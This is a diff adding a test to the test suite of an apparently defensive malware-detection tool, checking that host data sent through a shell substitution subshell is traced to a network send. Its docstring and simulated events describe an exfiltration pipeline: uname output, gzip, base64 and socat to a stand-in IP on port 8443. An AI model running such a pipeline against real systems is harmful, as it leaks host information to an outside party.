@@ -2,7 +2,7 @@
 
 from __future__ import annotations
 
-from detonate.detect.provenance import DECODED, NETWORK, provenance_of
+from detonate.detect.provenance import DECODED, HOST_FACTS, NETWORK, provenance_of
 from detonate.model.events import (
     DataWritten,
     FileCreated,
@@ -10,6 +10,7 @@ from detonate.model.events import (
     FileOpenedForRead,
     FileOpenedForWrite,
     FileRenamed,
+    NetworkSent,
 )
 
 from .stream import Stream
@@ -156,3 +157,30 @@ def test_a_download_captured_by_a_non_extractor_parent_is_not_followed() -> None
     _data(s, 1, "/srv/state/run.sh")
     s.spawn(1, 3, "run.sh", path="/srv/state/run.sh")
     assert _sinks(s) == []
+
+
+def test_output_captured_through_a_substitution_subshell_reaches_the_shell() -> None:
+    """`body=$(gzip -c /tmp/d | openssl base64); printf … "$body" | socat - TCP:…`: the
+    pipeline's last program writes the substitution subshell's stdout (a forked copy of the
+    shell, no exec); the shell that forked the subshell reads it, and a later copy of that
+    shell writes it to socat, which sends it."""
+    s = Stream()
+    s.exec(1, "sh", "/usr/share/diag/collect.sh", path="/bin/sh")
+    s.spawn(1, 2, "uname", "-a", path="/usr/bin/uname", stdout="/tmp/d")
+    _data(s, 2, "/tmp/d")
+    s.exit(2)
+    s.fork(1, 3)  # the $( … ) subshell, its stdout the pipe the shell reads
+    s.spawn(3, 4, "gzip", "-c", "/tmp/d", path="/usr/bin/gzip", stdout="pipe:[7]")
+    s.spawn(3, 5, "openssl", "base64", path="/usr/bin/openssl", stdin="pipe:[7]", stdout="pipe:[8]")
+    s.add(FileOpenedForRead, 4, path="/tmp/d", flags="O_RDONLY")
+    _data(s, 4, "pipe:[7]")
+    _data(s, 5, "pipe:[8]")
+    for pid in (4, 5, 3):
+        s.exit(pid)
+    s.fork(1, 6)  # printf, a builtin, in the pipeline's first subshell
+    _data(s, 6, "pipe:[9]")
+    s.spawn(1, 7, "socat", "-", "TCP:198.51.100.201:8443", path="/usr/bin/socat", stdin="pipe:[9]")
+    s.connect(7, "198.51.100.201", 8443)
+    s.add(NetworkSent, 7, family="AF_INET", protocol="TCP", address="198.51.100.201", port=8443,
+          bytes=1944, call="write")  # fmt: skip
+    assert ("sent", 7, "198.51.100.201:8443", HOST_FACTS) in _sinks(s)
